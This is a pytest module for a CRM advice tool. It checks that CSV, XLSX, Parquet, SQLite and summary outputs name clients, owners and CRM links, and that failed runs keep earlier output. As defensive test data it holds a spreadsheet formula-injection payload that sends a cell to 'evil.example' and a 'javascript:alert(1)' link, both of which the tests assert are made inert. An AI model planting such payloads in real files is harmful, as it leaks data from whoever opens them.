"""Advice out where managers read it: who and where each client is (name, owner, CRM link) in
every output format and in the summary and the journal's views; CSV that Excel opens (UTF-8 with
a BOM, ';' with --csv-dialect excel); XLSX read back with openpyxl (hyperlinks, frozen header,
filters); formula-looking client text inert in both; a failed run leaving the previous output
byte for byte."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from ..conftest import DATA, playbook

openpyxl = pytest.importorskip("openpyxl")

AMO = DATA / "crm" / "amocrm"
EXPORT = AMO / "amocrm_leads_2026-12-07.csv"
MAPPING = AMO / "mapping.yaml"
DAY = "2026-12-07"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть")'  # row 17's company


def run(out: Path, *args: str, source: Path = EXPORT) -> Any:
    done = playbook("run", str(source), "--map", str(MAPPING), "--as-of", DAY, "--out",
                    str(out), *args)
    assert done.returncode == 0, done.stderr
    return done


@pytest.fixture(scope="module")
def advice(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
    out = tmp_path_factory.mktemp("advice") / "advice.jsonl"
    run(out)
    return [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]


def _who(rec: dict[str, Any]) -> tuple[str, str, str, str]:
    return rec["client_id"], rec["client_name"], rec["owner"], rec["crm_url"]


def test_csv_starts_with_a_bom_and_carries_who_and_where(
        tmp_path: Path, advice: list[dict[str, Any]]) -> None:
    out = tmp_path / "advice.csv"
    run(out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfclient_id,client_name,owner,crm_id,crm_url,as_of,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == sum(len(r["actions"]) for r in advice)
    first = {(r["client_id"], r["client_name"], r["owner"], r["crm_url"]) for r in rows}
    assert first == {_who(r) for r in advice if r["actions"] and r["client_name"] != FORMULA} | {
        (r["client_id"], "'" + FORMULA, r["owner"], r["crm_url"]) for r in advice
        if r["client_name"] == FORMULA}


def test_the_excel_dialect_separates_cells_with_semicolons(tmp_path: Path) -> None:
    out = tmp_path / "advice.csv"
    run(out, "--csv-dialect", "excel", "--lang", "ru")
    text = out.read_bytes().decode("utf-8-sig")
    assert text.startswith("client_id;client_name;owner;crm_id;crm_url;as_of;kb_version;")
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert {len(r) for r in rows} == {16}
    assert any(r[2] == "Орлова Екатерина" for r in rows[1:])


def test_a_formula_in_a_client_name_goes_out_inert(tmp_path: Path) -> None:
    out = tmp_path / "advice.csv"
    run(out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    names = {r[1] for r in rows[1:]}
    assert "'" + FORMULA in names and FORMULA not in names
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)
    book = tmp_path / "advice.xlsx"
    run(book)
    sheet = openpyxl.load_workbook(book).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == FORMULA]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_xlsx_has_names_owners_links_a_frozen_header_and_filters(
        tmp_path: Path, advice: list[dict[str, Any]]) -> None:
    out = tmp_path / "advice.xlsx"
    run(out, "--lang", "ru")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["advice"]
    sheet = book.active
    header = [c.value for c in sheet[1]]
    assert header[:7] == ["клиент", "ответственный", "CRM", "приоритет", "тип", "что",
                          "почему"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:L{sheet.max_row}"
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == sum(len(r["actions"]) for r in advice)
    by_id = {r["client_id"]: r for r in advice}
    for row in rows:
        rec = by_id[row[7].value]
        assert row[0].value == (rec["client_name"] or rec["client_id"])
        assert row[1].value == rec["owner"]
        assert row[2].hyperlink.target == rec["crm_url"] and row[2].value == rec["client_id"]
        assert isinstance(row[3].value, int)
    assert [(r[7].value, r[8].value) for r in rows] == [
        (rec["client_id"], a["id"]) for rec in advice for a in rec["actions"]]
    assert rows[0][5].value and rows[0][6].value  # the title and the reason, in Russian
    assert rows[0][4].value in ("предупреждение", "заблокировано", "следующий шаг",
                                "допродажа", "коммуникация")


def test_a_client_s_own_link_that_is_no_web_link_is_text_not_a_link(tmp_path: Path) -> None:
    source = tmp_path / "clients.jsonl"
    source.write_text('{"id": "a", "project_type": "lead_gen", "crm_url": "javascript:alert(1)"}'
                      '\n{"id": "b", "project_type": "lead_gen", "crm_url": '
                      '"https://crm.example/b"}\n', encoding="utf-8")
    out = tmp_path / "advice.xlsx"
    done = playbook("run", str(source), "--as-of", DAY, "--out", str(out))
    assert done.returncode == 0, done.stderr
    rows = list(openpyxl.load_workbook(out).active.iter_rows(min_row=2))
    assert {r[2].value for r in rows if r[7].value == "a"} == {"javascript:alert(1)"}
    assert all(r[2].hyperlink is None for r in rows if r[7].value == "a")
    assert all(r[2].hyperlink.target == "https://crm.example/b" for r in rows
               if r[7].value == "b")


def test_parquet_and_sqlite_carry_who_and_where(tmp_path: Path,
                                                advice: list[dict[str, Any]]) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    run(tmp_path / "advice.parquet")
    table = pq.read_table(tmp_path / "advice.parquet").to_pylist()
    assert {(r["client_id"], r["client_name"], r["owner"], r["crm_url"]) for r in table} == {
        _who(r) for r in advice if r["actions"]}
    run(tmp_path / "advice.sqlite")
    db = sqlite3.connect(tmp_path / "advice.sqlite")
    assert db.execute("SELECT client_id, client_name, owner, crm_url FROM recommendations "
                      "ORDER BY row").fetchall() == [_who(r) for r in advice]


def test_the_summary_names_clients_and_owners(tmp_path: Path) -> None:
    done = run(tmp_path / "advice.jsonl", "--format", "json")
    urgent = json.loads(done.stdout)["most_urgent"]
    assert urgent and all(u["client_name"] and u["owner"] and u["crm_url"] for u in urgent)
    text = run(tmp_path / "advice.jsonl", "--lang", "ru", "--format", "markdown").stdout
    top = urgent[0]
    assert "| клиент | ответственный | приор. | тип | действие |" in text
    assert (f"| {top['client_name']} ({top['client_id']}) | {top['owner']} | "
            f"{top['priority']} |") in text


def test_the_journal_s_views_name_clients_with_owner_and_link(tmp_path: Path) -> None:
    journal = tmp_path / "journal.sqlite"
    done = run(tmp_path / "advice.jsonl", "--journal", str(journal))
    assert "31000000 · ИП «Тепло Союз» " in done.stdout  # the run's per-client lines
    link = "https://agency.amocrm.ru/leads/detail/31000000"
    who = ("ИП «Тепло Союз»", "Соколов Артём", link)
    inbox = json.loads(playbook("inbox", "--journal", str(journal), "--client", "31000000",
                                "--as-of", DAY, "--format", "json").stdout)["items"]
    assert inbox and {(i["client_name"], i["owner"], i["crm_url"]) for i in inbox} == {who}
    text = playbook("inbox", "--journal", str(journal), "--client", "31000000", "--as-of",
                    DAY).stdout
    assert all(line.startswith("  ИП «Тепло Союз» · ") and line.endswith(link)
               for line in text.splitlines()[2:])
    heading = f"31000000 · ИП «Тепло Союз» (Соколов Артём) · {link}"
    changes = json.loads(playbook("changes", "--journal", str(journal), "--format",
                                  "json").stdout)["records"]
    assert changes and all(c["owner"] and c["crm_url"] for c in changes)
    assert heading in playbook("changes", "--journal", str(journal)).stdout.splitlines()
    history = playbook("history", "31000000", "--journal", str(journal)).stdout
    assert history.splitlines()[0] == heading
    entries = json.loads(playbook("history", "31000000", "--journal", str(journal),
                                  "--format", "json").stdout)["records"]
    assert {(e["client_name"], e["owner"], e["crm_url"]) for e in entries} == {who}
    item = inbox[0]
    done = playbook("done", "31000000", item["kind"], item["id"], "--journal", str(journal),
                    "--format", "json")
    assert (json.loads(done.stdout)["owner"], json.loads(done.stdout)["crm_url"]) == who[1:]
    team = json.loads(playbook("team", "--journal", str(journal), "--as-of", DAY, "--format",
                               "json").stdout)
    assert all(r["client_name"] and r["owner"] and r["crm_url"]
               for o in team["owners"] for r in o["risks"])
    digest = playbook("digest", "--journal", str(journal), "--as-of", DAY, "--format",
                      "markdown").stdout
    items = [line for line in digest.splitlines() if line.startswith("- ")]
    assert items and all(re.match(r"- \[[^]]+\]\(https://agency\.amocrm\.ru/leads/detail/"
                                  r"\d+\) \([^)]+\) · ", line) for line in items)


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "xlsx", "parquet", "sqlite"])
def test_a_failed_run_leaves_the_previous_output_byte_identical(tmp_path: Path,
                                                                suffix: str) -> None:
    pytest.importorskip("pyarrow")
    out = tmp_path / f"keep.{suffix}"
    run(out)
    before = out.read_bytes()
    for bad in (tmp_path / "missing.csv", _undecodable(tmp_path)):
        done = playbook("run", str(bad), "--map", str(MAPPING), "--as-of", DAY, "--out",
                        str(out))
        assert done.returncode == 1
        assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([out.name, "late.csv"])
    # (no temporary file left behind)


def _undecodable(tmp_path: Path) -> Path:
    path = tmp_path / "late.csv"
    text = EXPORT.read_bytes()
    path.write_bytes(text + b"31999999,\xff\xfe," + b"," * 15 + b"\r\n")
    return path


def test_a_run_whose_every_client_fails_keeps_the_previous_output(tmp_path: Path) -> None:
    out = tmp_path / "keep.jsonl"
    out.write_bytes(b'{"yesterday": true}\n')
    source = tmp_path / "bad.jsonl"
    source.write_text('{"id": "a", "nps": 99}\n', encoding="utf-8")
    done = playbook("run", str(source), "--out", str(out))
    assert done.returncode == 1
    assert out.read_bytes() == b'{"yesterday": true}\n'
